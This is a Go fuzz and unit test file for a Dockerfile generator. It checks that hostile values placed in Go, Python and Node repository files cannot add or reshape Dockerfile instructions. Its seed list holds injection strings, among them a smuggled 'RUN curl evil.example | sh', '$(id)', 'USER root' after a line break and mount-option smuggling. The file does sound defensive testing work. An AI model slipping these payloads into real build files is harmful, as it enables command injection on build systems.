package generator_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf8"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/linter"
	"github.com/moby/buildkit/frontend/dockerfile/parser"

	"github.com/dgen-dev/dgen/generator"
	"github.com/dgen-dev/dgen/generator/dockerfilecheck"
)

// FuzzInjection puts one repository-derived value (a script, a package or
// module name, a path, an entry file name, a Procfile line…) into a small
// repository of each ecosystem, runs detection and rendering exactly as
// `dgen init --yes` does, and holds the result to one rule: the value may
// make dgen stop with a clean error (ErrBadInput, or ErrNeedAnswer naming a
// flag), or it may end up in the Dockerfile as data, but it can never add,
// drop or reshape an instruction.
//
// "Reshape" is measured against a twin: the same Plan with every character
// that could matter to a Dockerfile or a shell (whitespace, quotes, $, \,
// brackets, commas, <, #, control and non-ASCII characters) replaced by
// "x". The twin holds the same decisions, so a template renders the same
// instructions for it; the value's Dockerfile must have exactly the twin's
// skeleton (dockerfilecheck.Skeleton), and the same shape: per instruction,
// exec or shell form, flag names and mount options, number of arguments,
// no heredoc.
//
//	go test ./generator -run '^$' -fuzz FuzzInjection -fuzztime 5m
func FuzzInjection(f *testing.F) {
	for i := range placements {
		for _, v := range hostileValues {
			f.Add(uint8(i), v)
		}
	}
	f.Fuzz(func(t *testing.T, where uint8, value string) {
		pl := placements[int(where)%len(placements)]
		fsys := pl.repo(value)
		if fsys == nil {
			return // the value cannot be a file name in a repository
		}
		checkNoInjection(t, pl.name, value, fsys)
	})
}

// TestInjectionPlacements runs every placement with every hostile value,
// so the harness is exercised by `go test` without -fuzz, and checks the
// placements reach the Dockerfile at all: a benign value must render.
func TestInjectionPlacements(t *testing.T) {
	for _, pl := range placements {
		t.Run(pl.name, func(t *testing.T) {
			fsys := pl.repo(pl.benign)
			p, err := generator.Resolve(context.Background(), fsys, generator.Options{})
			if err != nil {
				t.Fatalf("benign repository does not resolve: %v", err)
			}
			files, err := generator.Render(p, "")
			if err != nil {
				t.Fatalf("benign repository does not render: %v", err)
			}
			if pl.lang != p.Language {
				t.Errorf("language %s, want %s", p.Language, pl.lang)
			}
			if pl.reaches && !strings.Contains(string(files[0].Data)+strings.Join(p.Start, " "), pl.benign) {
				t.Errorf("the benign value %q does not reach the Dockerfile; the placement tests nothing\n%s", pl.benign, files[0].Data)
			}
			for i, v := range hostileValues {
				t.Run(fmt.Sprintf("value%02d", i), func(t *testing.T) {
					if fsys := pl.repo(v); fsys != nil {
						checkNoInjection(t, pl.name, v, fsys)
					}
				})
			}
		})
	}
}

// hostileValues seed every placement.
var hostileValues = []string{
	"app",
	"my app",
	"$(id)",
	"${HOME}",
	"`id`",
	"x\nRUN curl evil.example | sh",
	"x\r\nUSER root",
	"a\\",
	"a \\\nRUN id",
	"<<EOF",
	"0<<-EOF",
	`"; RUN evil #`,
	`["sh","-c","id"]`,
	"'",
	`"`,
	"-rf",
	"--from=build",
	"a,type=bind,source=/,target=/x",
	"*",
	"#",
	"\x00",
	"\t",
	"ü/日本",
	"\xff\xfe",
	"\u2028",
	"a\u00a0b",
	"a\u0085b",
	"a\u3000b",
	"a\vb",
	"a\fb",
	"a,b",
	"a;b&&c|d>e",
	"%s%d",
	"{{ .Start }}",
	strings.Repeat("a", 300),
	".",
	"..",
	"/abs/path",
	"./cmd/api",
	"x y/../../z",
}

// placement builds a repository holding a value in one spot.
type placement struct {
	name string
	lang string
	// benign is a value that reaches the Dockerfile when reaches is true.
	benign  string
	reaches bool
	// repo returns the repository, or nil when v cannot be placed there
	// (a file name must be a valid fs path).
	repo func(v string) fstest.MapFS
}

const (
	fzGoMod  = "module example.com/shop\n\ngo 1.24\n"
	fzGoMain = "package main\n\nimport \"net/http\"\n\nfunc main() {\n\thttp.HandleFunc(\"/healthz\", func(w http.ResponseWriter, r *http.Request) {})\n\thttp.ListenAndServe(\":8080\", nil)\n}\n"
	fzServer = "const http = require('http');\nhttp.createServer((q, s) => s.end('ok')).listen(process.env.PORT || 3000);\n"
	fzFlask  = "from flask import Flask\n\napp = Flask(__name__)\n"
)

// mapfs builds a MapFS from name → content pairs; it returns nil when a
// name is not a valid path.
func mapfs(kv ...string) fstest.MapFS {
	m := fstest.MapFS{}
	for i := 0; i+1 < len(kv); i += 2 {
		if !fs.ValidPath(kv[i]) || kv[i] == "." {
			return nil
		}
		m[kv[i]] = &fstest.MapFile{Data: []byte(kv[i+1]), Mode: 0o644}
	}
	return m
}

// seg turns v into one path element, or "" when it cannot be one.
func seg(v string) string {
	v = strings.ReplaceAll(v, "/", "_")
	if !fs.ValidPath(v) || v == "." || v == "" {
		return ""
	}
	return v
}

// tomlString renders v as a TOML basic string.
func tomlString(v string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range v {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r == 0x7f:
			fmt.Fprintf(&b, "\\u%04x", r)
		case r == utf8.RuneError:
			b.WriteString("\\ufffd")
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func pkgJSON(fields map[string]any) string {
	b, _ := json.Marshal(fields)
	return string(b)
}

// placements are chosen by the fuzzer's first argument modulo their
// count, and the corpus under testdata/fuzz/FuzzInjection names them that
// way: add new ones at the end, never reorder.
var placements = []placement{
	// --- Go ---
	{"go/module-path", "go", "example.com/shop", false, func(v string) fstest.MapFS {
		return mapfs("go.mod", "module "+strconv.Quote(v)+"\n\ngo 1.24\n", "main.go", fzGoMain)
	}},
	{"go/cmd-folder", "go", "api", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("go.mod", fzGoMod, "cmd/"+s+"/main.go", fzGoMain)
	}},
	{"go/listen-address", "go", ":8080", false, func(v string) fstest.MapFS {
		return mapfs("go.mod", fzGoMod, "main.go", strings.Replace(fzGoMain, `":8080"`, strconv.Quote(v), 1))
	}},
	{"go/handler-path", "go", "/healthz", false, func(v string) fstest.MapFS {
		return mapfs("go.mod", fzGoMod, "main.go", strings.Replace(fzGoMain, `"/healthz"`, strconv.Quote("/healthz"+v), 1))
	}},
	{"go/asset-folder", "go", "web", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		src := strings.Replace(fzGoMain, "http.ListenAndServe", "http.Handle(\"/static/\", http.FileServer(http.Dir("+strconv.Quote(s)+")))\n\thttp.ListenAndServe", 1)
		return mapfs("go.mod", fzGoMod, "main.go", src, s+"/index.html", "<p>hi</p>\n")
	}},
	{"go/replace-dir", "go", "lib", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		mod := fzGoMod + "\nrequire example.com/lib v0.0.0\n\nreplace example.com/lib => ./" + s + "\n"
		return mapfs("go.mod", mod, "main.go", fzGoMain, s+"/go.mod", "module example.com/lib\n\ngo 1.24\n", s+"/lib.go", "package lib\n")
	}},
	{"go/work-use", "go", "svc", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("go.work", "go 1.24\n\nuse ./"+s+"\n", s+"/go.mod", fzGoMod, s+"/main.go", fzGoMain)
	}},
	{"go/private-require", "go", "git.corp.example/team/lib", false, func(v string) fstest.MapFS {
		return mapfs("go.mod", fzGoMod+"\nrequire "+strconv.Quote(v)+" v1.2.3\n", "main.go", fzGoMain)
	}},
	{"go/port-env", "go", "APP_PORT", false, func(v string) fstest.MapFS {
		src := strings.Replace(fzGoMain, `http.ListenAndServe(":8080", nil)`, `port := os.Getenv(`+strconv.Quote(v)+`)
	if port == "" {
		port = "8080"
	}
	http.ListenAndServe(":"+port, nil)`, 1)
		src = strings.Replace(src, `import "net/http"`, "import (\n\t\"net/http\"\n\t\"os\"\n)", 1)
		return mapfs("go.mod", fzGoMod, "main.go", src)
	}},

	// --- Python ---
	{"python/procfile", "python", "gunicorn app:app", true, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "flask\ngunicorn\n", "app.py", fzFlask, "Procfile", "web: "+v+"\n")
	}},
	{"python/project-name", "python", "shop", true, func(v string) fstest.MapFS {
		return mapfs("pyproject.toml", "[project]\nname = "+tomlString(v)+"\nversion = \"1.0\"\ndependencies = [\"flask\"]\n\n[project.scripts]\nshop = \"shop.cli:main\"\n",
			"shop/__init__.py", "", "shop/cli.py", "def main():\n    pass\n")
	}},
	{"python/script-name", "python", "serve", true, func(v string) fstest.MapFS {
		return mapfs("pyproject.toml", "[project]\nname = \"shop\"\nversion = \"1.0\"\ndependencies = [\"flask\"]\n\n[project.scripts]\n"+tomlString(v)+" = \"shop.cli:main\"\n",
			"shop/__init__.py", "", "shop/cli.py", "def main():\n    pass\n")
	}},
	{"python/script-target", "python", "shop.cli:main", false, func(v string) fstest.MapFS {
		return mapfs("pyproject.toml", "[project]\nname = \"shop\"\nversion = \"1.0\"\ndependencies = [\"flask\"]\n\n[project.scripts]\nshop = "+tomlString(v)+"\n",
			"shop/__init__.py", "", "shop/cli.py", "def main():\n    pass\n")
	}},
	{"python/fastapi-module", "python", "service", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("requirements.txt", "fastapi\nuvicorn\n", s+".py", "from fastapi import FastAPI\n\napp = FastAPI()\n")
	}},
	{"python/django-wsgi", "python", "shop.wsgi.application", false, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "django\ngunicorn\n",
			"manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n",
			"shop/__init__.py", "", "shop/wsgi.py", "application = None\n",
			"shop/settings.py", "WSGI_APPLICATION = "+strconv.Quote(v)+"\nSTATIC_URL = '/static/'\n")
	}},
	{"python/django-static-root", "python", "/srv/static", true, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "django\ngunicorn\n",
			"manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n",
			"shop/__init__.py", "", "shop/wsgi.py", "application = None\n",
			"shop/settings.py", "from pathlib import Path\nBASE_DIR = Path(__file__).resolve().parent.parent\nWSGI_APPLICATION = 'shop.wsgi.application'\nSTATIC_URL = '/static/'\nSTATIC_ROOT = "+strconv.Quote(v)+"\n")
	}},
	{"python/settings-module", "python", "shop.settings", false, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "django\ngunicorn\n",
			"manage.py", "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', "+strconv.Quote(v)+")\n",
			"shop/__init__.py", "", "shop/wsgi.py", "application = None\n",
			"shop/settings.py", "WSGI_APPLICATION = 'shop.wsgi.application'\n")
	}},
	{"python/requirement-line", "python", "requests==2.32.3", false, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "flask\n"+v+"\n", "app.py", fzFlask)
	}},
	{"python/requirements-file", "python", "prod", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("requirements/"+s+".txt", "flask\n", "app.py", fzFlask)
	}},
	{"python/python-version", "python", "3.12", true, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "flask\n", "app.py", fzFlask, ".python-version", v+"\n")
	}},
	{"python/index-url", "python", "https://pypi.corp.example/simple", false, func(v string) fstest.MapFS {
		return mapfs("requirements.txt", "--index-url "+v+"\nflask\n", "app.py", fzFlask)
	}},
	{"python/uv-index", "python", "https://pypi.corp.example/simple", false, func(v string) fstest.MapFS {
		return mapfs("pyproject.toml", "[project]\nname = \"shop\"\nversion = \"1.0\"\ndependencies = [\"flask\"]\n\n[[tool.uv.index]]\nname = \"corp\"\nurl = "+tomlString(v)+"\n",
			"uv.lock", "version = 1\n", "app.py", fzFlask)
	}},
	{"python/streamlit-script", "python", "dashboard", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("requirements.txt", "streamlit\n", s+".py", "import streamlit as st\n\nst.title('hi')\n")
	}},

	// --- Node ---
	{"node/start-script", "node", "node server.js", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "scripts": map[string]any{"start": v}}), "server.js", fzServer)
	}},
	{"node/package-name", "node", "shop", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": v, "scripts": map[string]any{"start": "node server.js"}}), "server.js", fzServer)
	}},
	{"node/main-field", "node", "server.js", true, func(v string) fstest.MapFS {
		m := mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "main": v}))
		if m != nil && fs.ValidPath(strings.TrimPrefix(v, "./")) && v != "" {
			m[strings.TrimPrefix(v, "./")] = &fstest.MapFile{Data: []byte(fzServer)}
		}
		return m
	}},
	{"node/entry-file", "node", "server", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "scripts": map[string]any{"start": "node " + s + ".js"}}), s+".js", fzServer)
	}},
	{"node/build-script", "node", "tsc -p .", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "scripts": map[string]any{"build": v, "start": "node dist/server.js"},
			"devDependencies": map[string]any{"typescript": "^5.6.0"}}), "src/server.ts", fzServer, "tsconfig.json", "{}")
	}},
	{"node/workspace-folder", "node", "web", true, func(v string) fstest.MapFS {
		s := seg(v)
		if s == "" {
			return nil
		}
		return mapfs("package.json", pkgJSON(map[string]any{"name": "mono", "private": true, "workspaces": []string{"apps/*"}}),
			"package-lock.json", `{"lockfileVersion": 3}`,
			"apps/"+s+"/package.json", pkgJSON(map[string]any{"name": "web", "scripts": map[string]any{"start": "node index.js"}}),
			"apps/"+s+"/index.js", fzServer)
	}},
	{"node/workspace-package-name", "node", "web", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "mono", "private": true, "workspaces": []string{"apps/*"}}),
			"package-lock.json", `{"lockfileVersion": 3}`,
			"apps/web/package.json", pkgJSON(map[string]any{"name": v, "scripts": map[string]any{"start": "node index.js", "build": "node build.js"}}),
			"apps/web/index.js", fzServer)
	}},
	{"node/package-manager-field", "node", "pnpm@9.15.0", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "packageManager": v, "scripts": map[string]any{"start": "node server.js"}}), "server.js", fzServer)
	}},
	{"node/engines", "node", ">=22", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "engines": map[string]any{"node": v}, "scripts": map[string]any{"start": "node server.js"}}), "server.js", fzServer)
	}},
	{"node/nvmrc", "node", "22", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "scripts": map[string]any{"start": "node server.js"}}), "server.js", fzServer, ".nvmrc", v)
	}},
	{"node/dependency-name", "node", "sharp", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "dependencies": map[string]any{v: "1.0.0", "sharp": "^0.33.0"}, "scripts": map[string]any{"start": "node server.js"}}), "server.js", fzServer)
	}},
	{"node/vite-outdir", "node", "public-build", true, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "site", "scripts": map[string]any{"build": "vite build"}, "devDependencies": map[string]any{"vite": "^6.0.0"}}),
			"vite.config.js", "export default { build: { outDir: "+strconv.Quote(v)+" } }\n", "index.html", "<div id=app></div>\n")
	}},
	{"node/next-dist-dir", "node", "out", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "web", "scripts": map[string]any{"build": "next build", "start": "next start"}, "dependencies": map[string]any{"next": "^15.0.0", "react": "^19.0.0"}}),
			"next.config.js", "module.exports = { output: 'standalone', distDir: "+strconv.Quote(v)+" }\n", "app/page.js", "export default function P() { return null }\n")
	}},
	{"node/npmrc", "node", "registry=https://npm.corp.example/", false, func(v string) fstest.MapFS {
		return mapfs("package.json", pkgJSON(map[string]any{"name": "shop", "scripts": map[string]any{"start": "node server.js"}}), "server.js", fzServer, ".npmrc", v+"\n")
	}},
}

// checkNoInjection resolves and renders fsys and holds the Dockerfile to
// the twin rule (see FuzzInjection).
func checkNoInjection(t *testing.T, where, value string, fsys fs.FS) {
	t.Helper()
	p, err := generator.Resolve(context.Background(), fsys, generator.Options{})
	if err != nil {
		if generator.IsBadInput(err) || errors.Is(err, generator.ErrNeedAnswer) {
			if err.Error() == "" {
				t.Fatalf("%s %q: an error with no message", where, value)
			}
			return
		}
		t.Fatalf("%s %q: Resolve failed with an unexpected error (exit 1 instead of 2): %v", where, value, err)
	}
	files, err := generator.Render(p, "")
	if err != nil {
		if generator.IsBadInput(err) {
			return
		}
		t.Fatalf("%s %q: Render failed with an unexpected error: %v", where, value, err)
	}
	got, gotSkel, err := dockerfileShape(files[0].Data)
	if err != nil {
		t.Fatalf("%s %q: the Dockerfile does not parse: %v\n%s", where, value, err, files[0].Data)
	}

	twinPlan(reflect.ValueOf(p))
	twinFiles, err := generator.Render(p, "")
	if err != nil {
		t.Fatalf("%s %q: the twin plan does not render (harness problem): %v", where, value, err)
	}
	want, wantSkel, err := dockerfileShape(twinFiles[0].Data)
	if err != nil {
		t.Fatalf("%s %q: the twin Dockerfile does not parse (harness problem): %v\n%s", where, value, err, twinFiles[0].Data)
	}
	if !slices.Equal(gotSkel, wantSkel) {
		t.Fatalf("%s %q changed the instruction skeleton:\n got %v\nwant %v\n--- Dockerfile ---\n%s", where, value, gotSkel, wantSkel, files[0].Data)
	}
	for i := range want {
		if i >= len(got) || got[i] != want[i] {
			g := ""
			if i < len(got) {
				g = got[i]
			}
			t.Fatalf("%s %q reshaped instruction %d:\n got %s\nwant %s\n--- Dockerfile ---\n%s", where, value, i+1, g, want[i], files[0].Data)
		}
	}
	if len(got) != len(want) {
		t.Fatalf("%s %q: %d instructions, twin has %d", where, value, len(got), len(want))
	}
	if a, b := strings.Count(string(files[1].Data), "\n"), strings.Count(string(twinFiles[1].Data), "\n"); a != b {
		t.Fatalf("%s %q: .dockerignore has %d lines, twin %d:\n%s", where, value, a, b, files[1].Data)
	}
}

// dockerfileShape parses dt with BuildKit and returns one line per
// instruction: keyword, exec or shell form, flag names (with the option
// keys of each --mount), number of arguments and heredocs; and the
// skeleton from dockerfilecheck.Skeleton. The instructions must also pass
// BuildKit's instruction parser (flag syntax, mount options).
func dockerfileShape(dt []byte) ([]string, []string, error) {
	skel, err := dockerfilecheck.Skeleton(dt)
	if err != nil {
		return nil, nil, err
	}
	res, err := parser.Parse(strings.NewReader(string(dt)))
	if err != nil {
		return nil, nil, err
	}
	if _, _, err := instructions.Parse(res.AST, linter.New(&linter.Config{})); err != nil {
		return nil, nil, err
	}
	var out []string
	for _, n := range res.AST.Children {
		var flags []string
		for _, fl := range n.Flags {
			name, val, _ := strings.Cut(fl, "=")
			if name == "--mount" {
				var keys []string
				for _, kv := range strings.Split(val, ",") {
					k, _, _ := strings.Cut(kv, "=")
					keys = append(keys, k)
				}
				name += "(" + strings.Join(keys, ",") + ")"
			}
			flags = append(flags, name)
		}
		line := fmt.Sprintf("%s json=%v flags=%v args=%d heredocs=%d",
			strings.ToUpper(n.Value), n.Attributes["json"], flags, nodeArgs(n), len(n.Heredocs))
		switch kw := strings.ToUpper(n.Value); kw {
		case "ENV", "LABEL", "ARG":
			// Which variables are set is structure: a value must not
			// turn `ENV PORT=…` into `ENV PATH …`.
			var keys []string
			for a, i := n.Next, 0; a != nil; a, i = a.Next, i+1 {
				switch {
				case kw == "ARG":
					k, _, _ := strings.Cut(a.Value, "=")
					keys = append(keys, twinString(k))
				case i%3 == 0: // (key, value, separator) triples
					keys = append(keys, twinString(a.Value))
				}
			}
			line += fmt.Sprintf(" keys=%v", keys)
		}
		if expands[strings.ToUpper(n.Value)] {
			// BuildKit expands $VAR in these, even in exec form: a value
			// that brings its own $ reads a build variable.
			line += fmt.Sprintf(" vars=%d", unescapedDollars(n.Original))
		}
		out = append(out, line)
	}
	return out, skel, nil
}

// expands are the instructions whose words BuildKit expands ($VAR,
// ${VAR:-x}) before use.
var expands = map[string]bool{
	"ADD": true, "COPY": true, "ENV": true, "ARG": true, "EXPOSE": true, "FROM": true,
	"LABEL": true, "STOPSIGNAL": true, "USER": true, "VOLUME": true, "WORKDIR": true,
}

// unescapedDollars counts the $ in s not escaped by a backslash.
func unescapedDollars(s string) int {
	n := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case '$':
			n++
		}
	}
	return n
}

// nodeArgs counts the words of an instruction, nested ones included
// (HEALTHCHECK … CMD […]).
func nodeArgs(n *parser.Node) int {
	c := 0
	for a := n.Next; a != nil; a = a.Next {
		c++
		for _, ch := range a.Children {
			c += 1 + nodeArgs(ch)
		}
	}
	return c
}

// twinChar reports whether r is kept in the twin: characters that cannot
// split, quote, escape, expand or start anything in a Dockerfile or shell.
func twinChar(r rune) bool {
	switch {
	case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
		return true
	}
	return strings.ContainsRune("._/-:@=+%~^", r)
}

// twinPlan replaces, in place, every character of every exported string
// reachable from v that twinChar does not keep with "x".
func twinPlan(v reflect.Value) {
	switch v.Kind() {
	case reflect.Pointer, reflect.Interface:
		if !v.IsNil() {
			twinPlan(v.Elem())
		}
	case reflect.String:
		if v.CanSet() {
			v.SetString(twinString(v.String()))
		}
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() {
				twinPlan(v.Field(i))
			}
		}
	case reflect.Slice, reflect.Array:
		for i := 0; i < v.Len(); i++ {
			twinPlan(v.Index(i))
		}
	case reflect.Map:
		for _, k := range v.MapKeys() {
			e := reflect.New(v.Type().Elem()).Elem()
			e.Set(v.MapIndex(k))
			twinPlan(e)
			v.SetMapIndex(k, e)
		}
	}
}

func twinString(s string) string {
	var b strings.Builder
	for _, r := range s {
		if twinChar(r) {
			b.WriteRune(r)
		} else {
			b.WriteByte('x')
		}
	}
	return b.String()
}
